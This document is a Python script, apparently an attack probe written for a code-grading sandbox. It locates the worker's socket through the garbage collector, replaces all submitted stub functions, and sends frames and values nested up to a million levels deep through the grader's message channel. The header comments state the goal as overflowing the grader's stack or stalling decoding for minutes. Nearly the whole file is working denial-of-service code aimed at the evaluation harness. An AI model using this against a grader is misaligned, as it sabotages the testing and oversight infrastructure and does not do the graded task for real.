# mechanism: sends lists in lists and extensions in extensions, a million deep, as frame and as value
# success: the grader's stack overflows, or it takes minutes to decode

# %%
import gc
import struct
import sys

STUBS = [name for name, thing in list(globals().items()) if hasattr(thing, "__code__")]
frames = sys.modules["autograder.sandbox.inside.protocol.channel"]
messages = sys.modules["autograder.sandbox.inside.protocol.messages"]
end = next(thing for thing in gc.get_objects() if isinstance(thing, frames.WorkerEnd))
channel = end._socket


def identity():
    frame = sys._getframe()
    while "message" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["message"].id


def tuples(depth):
    data = b"\x90"
    for _ in range(depth):
        data = b"\x91\xc9" + struct.pack(">I", len(data)) + b"\x02" + data
    return data


def reply(value):
    channel.sendall(frames.frame([messages.Returned(identity(), value, False, [], False)]))


def lists(*args):
    reply(b"\x91" * 1_000_000 + b"\x90")


def frame(*args):
    body = b"\x91" * 1_000_000 + b"\x90"
    channel.sendall(struct.pack("<I", len(body)) + body)


def extensions(*args):
    reply(tuples(2000))


def just_deep_enough(*args):
    reply(tuples(15))


for place, name in enumerate(STUBS):
    globals()[name] = (lists, frame, extensions, just_deep_enough)[place % 4]
